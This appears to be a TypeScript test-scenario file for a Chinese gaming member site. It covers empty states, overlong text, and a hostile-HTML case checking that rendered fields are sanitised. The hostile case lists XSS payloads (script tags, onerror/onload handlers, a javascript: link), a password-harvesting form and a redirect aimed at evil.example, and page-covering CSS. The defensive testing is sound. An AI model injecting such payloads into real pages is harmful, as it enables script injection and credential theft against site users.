import type { Scenarios } from './scenario'

/** `pwned` must never be set. */
const hostileHtml = [
  '<script>window.pwned=1</script>',
  '<img src="data:image/png;base64,AAAA" onerror="window.pwned=1">',
  '<svg onload="window.pwned=1"></svg>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<a href="javascript:window.pwned=1">点我领奖</a>',
  '<form action="https://evil.example"><input name="password" placeholder="请输入密码"><button>登录</button></form>',
  '<style>body{display:none}</style>',
  '<div id="root" style="position:fixed;inset:0;background:red;z-index:9999">遮住一切</div>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<p>正文仍应<strong>正常显示</strong></p>',
].join('')

const hostileTitle = '<img src="data:image/png;base64,AAAA" onerror="window.pwned=1">标题'

const unbrokenText = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789'.repeat(3)

export default {
  'empty-everything': {
    group: '空',
    title: '什么都没有',
    story: '没有优惠、赞助商、公告、文章、工单和申请记录：每个页面都要有像样的空状态',
    look: '从优惠页「暂无优惠活动」看起，再看赞助、消息、客服工单、活动记录和帮助文章：每页都有自己的一句话，没有空白。首页轮播是「欢迎来到星河」，热门是「暂无热门游戏」。',
    from: 'member',
    open: '/activity',
    world: {
      rows: {
        banners: null,
        homeNotices: null,
        games: null,
        promotions: null,
        promotionTypes: null,
        applications: null,
        sponsors: null,
        notices: null,
        articles: null,
        tickets: null,
        ticketReplies: null,
      },
    },
  },
  'hostile-html': {
    group: '异常',
    title: '恶意 HTML',
    story: '每个按 HTML 显示的字段都带有脚本、事件、框架和表单：正文应正常显示，其余都不生效',
    look: '优惠详情只有「正文仍应正常显示」等文字，没有输入框、红色遮罩和弹窗，点「点我领奖」什么都不发生。再看首页弹窗、帮助、消息、赞助和工单。',
    from: 'member',
    open: '/activityInfo?id=101',
    world: {
      site: { webcontent: hostileHtml, index_modal: 1 },
      rows: {
        promotions: [{ id: '101', title: hostileTitle, content: hostileHtml, memo: hostileHtml }],
        sponsors: [{ id: '201', name: hostileTitle, title: hostileTitle, content: hostileHtml }],
        articles: ['1', '2', '3', '4', '5', '6', '7', '8'].map((id) => ({
          id,
          content: hostileHtml,
        })),
        notices: [
          { id: 'n1', title: hostileTitle, content: hostileHtml },
          { id: 'm1', title: hostileTitle, content: hostileHtml },
        ],
        homeNotices: [{ id: 'h1', text: hostileTitle }],
        tickets: [{ id: '1012', title: hostileTitle, content: hostileHtml }],
      },
    },
  },
  'long-texts': {
    group: '异常',
    title: '超长名称与数字',
    story: '名字、标题、金额和订单号都特别长，没有空格可断：页面不能撑破，也不能左右滚动',
    look: '从优惠列表看起，再看优惠详情、赞助、消息、工单：长文字换行或省略，页面不能左右滑动，按钮不被挤出屏幕。',
    from: 'member',
    as: 'longName',
    open: '/activity',
    world: {
      site: { site_name: '星河国际娱乐会员中心'.repeat(3) },
      rows: {
        promotionTypes: [{ id: '1', name: '新人专享'.repeat(4) }],
        promotions: [
          {
            id: '101',
            title: '首存礼遇最高返还八十八万八千八百八十八元'.repeat(4),
            content: `<p>${unbrokenText}</p><table><tr><th>${unbrokenText}</th><td>8888888888888888.88</td></tr></table><pre>${unbrokenText}</pre>`,
          },
          { id: '102', title: unbrokenText },
        ],
        applications: [
          {
            id: 'aLong',
            memberId: '10007',
            promotionId: '101',
            name: '首存礼遇最高返还八十八万八千八百八十八元'.repeat(4),
            state: 1,
            at: '2026-03-14 11:00',
          },
        ],
        sponsors: [
          { id: '201', name: '北辰俱乐部'.repeat(12), title: '官方足球合作伙伴'.repeat(10) },
          { id: '202', name: unbrokenText, title: unbrokenText },
        ],
        notices: [
          { id: 'n1', title: '通道升级'.repeat(20), content: unbrokenText + '升级'.repeat(200) },
        ],
        tickets: [
          {
            id: 'tLong',
            orderNo: `GD${'8'.repeat(60)}`,
            memberId: '10007',
            title: '存款没有到账怎么办'.repeat(10),
            content: unbrokenText + '请尽快核对。'.repeat(60),
            category: 'payment',
            priority: 'urgent',
            status: 'replied',
            at: '2026-03-14 11:00',
          },
        ],
        ticketReplies: [
          {
            id: 'tLong-1',
            ticketId: 'tLong',
            by: 'admin',
            content: '您好，已收到。'.repeat(60) + unbrokenText,
            at: '2026-03-14 11:01:40',
          },
        ],
      },
    },
  },
} satisfies Scenarios
